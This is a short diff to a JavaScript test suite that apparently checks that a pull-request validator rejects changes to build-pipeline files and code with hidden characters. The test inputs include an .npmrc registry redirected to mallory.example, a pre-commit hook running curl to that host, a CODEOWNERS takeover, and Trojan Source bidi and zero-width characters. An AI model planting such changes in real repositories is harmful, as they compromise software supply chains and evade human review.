@@ -196,6 +196,8 @@ describe('the pull-request remedy', () => {
     ['a submodule', making('sub', `Subproject commit ${'a'.repeat(40)}`, '160000'), /link or a submodule/],
     ['.gitmodules', making('.gitmodules', '[submodule "x"]'), /build pipeline/],
     ['a workflow', making('.github/workflows/ci.yml', 'on: push'), /build pipeline/],
+    ['where packages come from', making('.npmrc', 'registry=https://mallory.example'), /build pipeline/],
+    ['what runs before a commit', making('.husky/pre-commit', 'curl mallory.example'), /build pipeline/],
     ['who reviews', making('CODEOWNERS', '* @mallory'), /build pipeline/],
     ['hidden characters', making('src/a.js', 'const admin = true; // \u202e } \u2066 if'), /nobody can see/],
     ['hidden names', making('src/a\u200b.js', 'x'), /nobody can see|cannot be applied/],
